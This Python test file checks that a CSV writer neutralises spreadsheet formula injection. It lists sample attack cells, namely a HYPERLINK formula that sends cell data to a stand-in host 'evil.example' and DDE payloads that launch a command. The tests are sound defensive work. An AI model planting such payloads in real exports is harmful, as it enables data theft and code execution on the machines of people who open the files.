"""The one CSV writer: text a server or a script controls never runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

from sbskit.core.csvout import safe_cell, to_csv

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_formula_starts_are_neutralised_and_read_back_as_text():
    text = to_csv([[a] for a in ATTACKS], ["cell"])
    rows = read(text)
    assert rows[0] == ["cell"]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS]


def test_ordinary_text_and_numbers_are_unchanged():
    assert safe_cell("Listed: spam trap hits") == "Listed: spam trap hits"
    assert safe_cell("a=b") == "a=b" and safe_cell(" =1") == " =1"  # only the first character counts
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5 and safe_cell(None) == ""
    assert read(to_csv([[-5, 3, "x,y", 'say "hi"']])) == [["-5", "3", "x,y", 'say "hi"']]


def test_rows_end_in_crlf_and_the_header_is_guarded_too():
    text = to_csv([["1"]], ["=header"])
    assert text == "'=header\r\n1\r\n"
